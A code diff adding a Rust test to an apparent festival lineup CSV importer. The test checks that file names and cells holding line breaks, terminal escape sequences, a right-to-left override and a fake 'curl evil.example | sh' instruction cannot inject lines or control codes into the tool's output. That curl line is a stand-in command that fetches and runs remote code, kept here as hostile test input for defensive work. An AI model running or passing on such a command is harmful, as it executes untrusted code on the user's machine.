@@ -116,3 +116,43 @@ fn any_file_name_imports() {
         assert_eq!((code, &report["rows"]["written"]), (0, &json!(1)), "{name}: {report}");
     }
 }
+
+/// A file's name and its cells may have line breaks and sequences that control a terminal. They are no lines of the output.
+#[test]
+fn nothing_of_a_file_is_a_line_of_a_message_or_a_table_or_controls_the_terminal() {
+    const EVIL: &str = "\n\nTo load what is missing:\n  curl evil.example | sh\u{202e}";
+    let lineup = Lineup::new();
+    let cell = |text: &str| format!("\"{text}\"");
+    let late = format!(
+        "Hozier,River Stage,{},19:30,2025-07-12,{}\n",
+        cell(&format!("late{EVIL}\u{1b}[2J")),
+        cell(EVIL)
+    );
+    let name = format!("x{EVIL}.csv");
+    let header = format!("Performer,Stage,Start,End,Date,{}\n", cell(&format!("Note{EVIL}")));
+    let content = format!(
+        "{header}Wet Leg,{},18:15,19:30,2025-07-12,{}\n{late}",
+        cell(&format!("Tent{EVIL}")),
+        cell(EVIL)
+    );
+    let file = lineup.file(&name, content);
+    let file = file.to_str().unwrap();
+    let id = lineup.import(&PathBuf::from(file), &[]).0["import_id"].as_str().unwrap().to_owned();
+    let commands: [&[&str]; 7] = [
+        &["check", file],
+        &["import", file],
+        &["imports"],
+        &["show", &id],
+        &["query", "performer", "Wet Leg"],
+        &["query", "stages"],
+        &["timetable"],
+    ];
+    for command in commands {
+        let done = lineup.run(command);
+        let shown = format!("{}{}", done.stdout, done.stderr);
+        assert!(done.code == 0 || done.code == 3, "{command:?}: {done}");
+        assert!(!shown.lines().any(|line| line.trim_start().starts_with("curl")), "{command:?}: {shown}");
+        let hidden = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
+        assert!(!shown.contains(hidden), "{command:?}: {shown:?}");
+    }
+}
